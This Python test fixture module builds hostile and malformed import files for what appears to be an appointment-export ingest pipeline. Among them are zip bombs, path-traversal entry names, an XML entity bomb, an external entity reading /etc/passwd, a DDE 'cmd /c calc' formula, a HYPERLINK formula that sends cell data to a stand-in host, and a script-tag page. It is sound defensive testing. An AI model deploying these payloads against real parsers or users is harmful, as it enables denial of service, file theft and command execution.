"""Files that mean harm, or are broken beyond sense: each is made here, and named by
what is wrong with it.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import xlwt

from tests.ingest.books import packed, xlsx

HEADER = b"AptNum,PatNum,AptStatus,AptDateTime,Note\n"
ROW = b"1,7,2,2026-01-05 09:00:00,note\n"
CSV = HEADER + ROW
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
MB = 1 << 20

Make = Callable[[Path], Path]
HOSTILE: dict[str, tuple[str, Make, str]] = {}
"""By what is wrong: the ending of the file's name, how it is made, and what the
sentence says ("" where it is read).
"""


def hostile(
    ending: str, says: str
) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Declare a file by the function that gives its bytes."""

    def declare(content: Callable[[], bytes]) -> Callable[[], bytes]:
        HOSTILE[content.__name__] = (
            ending,
            lambda path: _written(path, content()),
            says,
        )
        return content

    return declare


def _written(path: Path, content: bytes) -> Path:
    path.write_bytes(content)
    return path


def workbook(
    sheet: str | bytes, strings: str | bytes | None = None, **more: bytes
) -> bytes:
    """An XLSX with one sheet, its parts as given."""
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    kinds = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{main}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{main}.worksheet+xml"/></Types>'
    )
    package = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
    parts = {
        "[Content_Types].xml": kinds,
        "_rels/.rels": f'<Relationships {package}><Relationship Id="a" Type="{rel}/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {_NS} xmlns:r="{rel}"><sheets><sheet name="S" sheetId="1" r:id="a"/></sheets>'
        "</workbook>",
        "xl/_rels/workbook.xml.rels": f'<Relationships {package}><Relationship Id="a" Type="{rel}/worksheet" '
        f'Target="worksheets/sheet1.xml"/><Relationship Id="b" Type="{rel}/sharedStrings" Target="sharedStrings.xml"/>'
        "</Relationships>",
        "xl/worksheets/sheet1.xml": sheet,
        "xl/sharedStrings.xml": strings or f"<sst {_NS}></sst>",
        **more,
    }
    return packed(
        {
            name: part.encode() if isinstance(part, str) else part
            for name, part in parts.items()
        }
    )


def sheet(rows: str, before: str = "") -> str:
    """The sheet's part."""
    return f"{before}<worksheet {_NS}><sheetData>{rows}</sheetData></worksheet>"


def text(place: str, value: str) -> str:
    """A cell with a text."""
    return f'<c r="{place}" t="inlineStr"><is><t>{value}</t></is></c>'


def header_row() -> str:
    """The header and a row that can be read, as rows 1 and 2 of a sheet."""
    cells = [line.split(",") for line in CSV.decode().splitlines()]
    return "".join(
        (
            "<row "
            f'r="{at}">{"".join(text(f"{letter}{at}", cell) for letter, cell in zip("ABCDE", row, strict=True))}</row>'
        )
        for at, row in enumerate(cells, start=1)
    )


@hostile("zip", "unpack to far more")
def zip_bomb() -> bytes:
    return packed({"a.csv": HEADER + bytes(200 * MB)})


@hostile("zip", "unpack to far more")
def zip_bomb_of_many_files() -> bytes:
    return packed({f"{n}.csv": HEADER + b"0" * (12 * MB) for n in range(20)})


@hostile("zip", "unpack to far more")
def zip_bomb_that_lies_about_its_size() -> bytes:
    content = bytearray(packed({"a.csv": HEADER + b"0,0,2,,\n" * 3_000_000}))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        struct.pack_into("<I", content, content.rfind(mark) + at, len(CSV))
    return bytes(content)


@hostile("zip", "archive in an archive")
def zips_in_zips() -> bytes:
    content = CSV
    for depth in range(50):
        content = packed({f"{depth}.zip": content})
    return content


@hostile("zip", "files, and an archive of exports has at most")
def zip_of_20_000_files() -> bytes:
    return packed({f"{n}.csv": b"" for n in range(20_000)}, zipfile.ZIP_STORED)


@hostile("zip", "")
def zip_with_path_names() -> bytes:
    names = (
        "../../../../tmp/a.csv",
        "/etc/b.csv",
        "C:\\Windows\\c.csv",
        "\\\\server\\share\\d.csv",
        "e\x07\x1b[2J.csv",
    )
    rows = (ROW.replace(b"1,", f"{n},".encode(), 1) for n in range(9))
    return packed({name: HEADER + row for name, row in zip(names, rows, strict=False)})


@hostile("zip", "no file that could be an export")
def zip_with_a_name_of_no_letters() -> bytes:
    return packed({"QZ.csv": CSV}).replace(b"QZ.csv", b"\0Z.csv")


@hostile("zip", "locked with a password")
def zip_locked() -> bytes:
    content = bytearray(packed({"a.csv": CSV}))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.rfind(mark) + at] |= 1
    return bytes(content)


@hostile("zip", "damaged")
def zip_cut_off() -> bytes:
    return packed({"a.csv": HEADER + ROW * 1000})[:-40]


@hostile("zip", "damaged")
def zip_changed_on_its_way() -> bytes:
    content = bytearray(packed({"a.csv": CSV * 3}, zipfile.ZIP_STORED))
    content[60] ^= 1
    return bytes(content)


@hostile("zip", "packed in a way")
def zip_packed_otherwise() -> bytes:
    return packed({"a.csv": CSV}, zipfile.ZIP_LZMA)


@hostile("xlsx", "damaged")
def xlsx_with_an_xml_bomb() -> bytes:
    entities = '<!ENTITY a0 "lol">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
    )
    return workbook(
        sheet(f'<row r="1">{text("A1", "&a9;")}</row>', f"<!DOCTYPE x [{entities}]>")
    )


@hostile("xlsx", "damaged")
def xlsx_that_asks_for_a_file_of_the_computer() -> bytes:
    return workbook(
        sheet(
            f'<row r="1">{text("A1", "&x;")}</row>',
            '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        )
    )


@hostile("xlsx", "unpack to far more")
def xlsx_that_is_a_zip_bomb() -> bytes:
    return workbook(sheet(" " * (200 * MB)))


@hostile("xlsx", "a stray cell far away")
def xlsx_of_17_billion_cells() -> bytes:
    return workbook(
        sheet(f'{header_row()}<row r="1048576">{text("XFD1048576", "x")}</row>')
    )


@hostile("xlsx", "")
def xlsx_of_a_million_empty_cells() -> bytes:
    empty = "".join(
        (
            "<row "
            f'r="{n}">{"".join(f"<c r={chr(34)}{c}{n}{chr(34)}/>" for c in "ABCDEFGHIJ")}</row>'
        )
        for n in range(3, 50_003)
    )
    return workbook(sheet(header_row() + empty))


@hostile("xlsx", "larger than spreadsheets")
def xlsx_with_one_long_text_everywhere() -> bytes:
    strings = f"<sst {_NS}><si><t>{'x' * 32_000}</t></si></sst>"
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 60_000)
    )
    return workbook(sheet(rows), strings)


@hostile("xlsx", "no sheet|empty|not a file we know|damaged")
def xlsx_nested_200_000_deep() -> bytes:
    return workbook(sheet("<a>" * 200_000 + "</a>" * 200_000))


@hostile("xlsx", "damaged|unpack")
def xlsx_cut_off() -> bytes:
    return workbook(sheet(header_row()))[:-300]


@hostile("xlsx", "")
def xlsx_with_links_and_formulas() -> bytes:
    formula = (
        '<c r="E2" '
        't="str"><f>HYPERLINK("http://example.invalid/"&amp;A1,"x")</f><v>=cmd|"/c '
        'calc"!A1</v></c>'
    )
    link = b'<externalLink xmlns:r="r"><externalBook r:id="rId1"/></externalLink>'
    rows = header_row().replace(text("E2", "note"), formula)
    return workbook(sheet(rows), **{"xl/externalLinks/externalLink1.xml": link})


@hostile("ods", "larger than spreadsheets|stray cell")
def ods_of_17_billion_cells() -> bytes:
    names = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "table", "text")
    )
    content = (
        f'<office:document-content {names}><office:body><office:spreadsheet><table:table table:name="S">'
        '<table:table-row table:number-rows-repeated="1048576"><table:table-cell office:value-type="string" '
        'table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell></table:table-row></table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    kind = b"application/vnd.oasis.opendocument.spreadsheet"
    return packed({"mimetype": kind, "content.xml": content.encode()})


@hostile("xls", "a stray cell far away")
def xls_of_17_million_cells() -> bytes:
    old = xlwt.Workbook()
    held = io.BytesIO()
    page = old.add_sheet("S")
    page.write(0, 0, "x")
    page.write(65_535, 255, "x")
    old.save(held)
    return held.getvalue()


@hostile("xls", "damaged")
def xls_of_garbage() -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + zlib.crc32(b"x").to_bytes(4, "little") * 50_000
    )


@hostile("csv", "columns")
def csv_of_10_000_columns() -> bytes:
    return b",".join(b"c%d" % n for n in range(10_000)) + b"\n" + b"," * 9_999


@hostile("csv", "a line of more than")
def csv_of_one_line_of_100_mb() -> bytes:
    return b"x," * (50 * MB)


@hostile("csv", "a line of more than")
def csv_with_one_line_of_100_mb_below_its_header() -> bytes:
    return CSV + b"x" * (100 * MB)


@hostile("csv", "another number of cells")
def csv_of_quotation_marks() -> bytes:
    return HEADER + b'"\n' * (5 * MB)


@hostile("csv", "not a file we know")
def csv_of_nothing_but_quotation_marks() -> bytes:
    return b'"' * 500_000


@hostile("csv", "not a text file")
def csv_with_bytes_of_nothing() -> bytes:
    return CSV + b"2,7,2,\0\0\0,\n" + ROW * 1000


@hostile("csv", "empty")
def csv_of_10_million_empty_lines() -> bytes:
    return b"\n" * 10_000_000


@hostile("csv", "empty lines")
def csv_with_10_million_empty_lines_below_its_header() -> bytes:
    return CSV + b"\r\n" * 10_000_000


@hostile("csv", "another number of cells")
def csv_of_2_million_crooked_rows() -> bytes:
    return CSV + b"1,2\n" * 2_000_000


@hostile("csv", "not a text file|not a file we know")
def csv_that_is_noise() -> bytes:
    noise = bytearray()
    seed = b"noise"
    while len(noise) < MB:
        seed = zlib.crc32(seed).to_bytes(4, "little") + seed[:4]
        noise += seed
    return bytes(noise)


@hostile("csv", "a program")
def csv_that_is_a_program() -> bytes:
    return b"MZ\x90" + bytes(10 * MB)


@hostile("csv", "gzip")
def csv_that_is_packed() -> bytes:
    return b"\x1f\x8b\x08" + bytes(1000)


@hostile("xls", "web page")
def xls_that_is_a_web_page() -> bytes:
    return b"<html><script>alert(1)</script><table>" + b"<tr><td>1</td></tr>" * 100_000


@hostile("csv", "")
def csv_with_formulas() -> bytes:
    return HEADER + b'1,7,2,2026-01-05,"=HYPERLINK(""http://example.invalid"",""x"")"\n'


@hostile("csv", "")
def xlsx_named_csv() -> bytes:
    return workbook(sheet(header_row()))


@hostile("csv", "a line of more than")
def utf16_of_half_letters() -> bytes:
    return b"\xff\xfe" + b"\x00\xd8" * (5 * MB)


def many_sheets(path: Path) -> Path:
    """A spreadsheet of more sheets than any export."""
    return xlsx(path, {f"S{n}": [["x"]] for n in range(300)})


HOSTILE["xlsx_of_300_sheets"] = ("xlsx", many_sheets, "larger than spreadsheets")
